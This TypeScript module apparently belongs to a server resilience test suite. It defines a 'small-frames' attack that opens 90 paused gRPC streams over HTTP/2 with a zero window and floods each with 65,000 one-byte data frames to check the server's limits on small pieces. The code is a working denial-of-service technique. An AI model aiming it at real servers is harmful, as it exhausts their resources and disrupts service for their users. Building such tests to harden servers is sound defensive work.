// SPDX-License-Identifier: Apache-2.0

import type { Attack, Way } from "../attack.ts";
import { grpcHeaders, PATHS } from "../wire/grpc.ts";
import { FLAG, FRAME, frame } from "../wire/h2-frames.ts";
import { openH2Line, over } from "../wire/line.ts";

/** Streams on one connection, each with as many one-byte frames as its window allows. */
const STREAMS = 90;
const FRAMES = 65_000;

/** The caller reads no reply, so the method stops reading, and the stream is paused with its window full. */
const paused: Way = async (target, tools) => {
  const line = await openH2Line(target.port, tools, { windowBytes: 0 });
  if (line === undefined) return;
  const ids = Array.from({ length: STREAMS }, (_, index) => 1 + 2 * index);
  for (const id of ids) await line.send(grpcHeaders(PATHS.chat, id));
  // Zeros are empty messages.
  for (const id of ids) await line.send(repeated(frame(FRAME.data, FLAG.none, id, Buffer.alloc(1)), FRAMES));
  await over(tools.signal);
};

function repeated(bytes: Buffer, times: number): Buffer {
  return Buffer.alloc(bytes.length * times, bytes);
}

export const attack: Attack = {
  name: "small-frames",
  about: "frames of one byte on streams of gRPC that are paused",
  bounds: ["max-small-pieces"],
  seconds: { long: 40, short: 1.5 },
  ways: { paused },
};
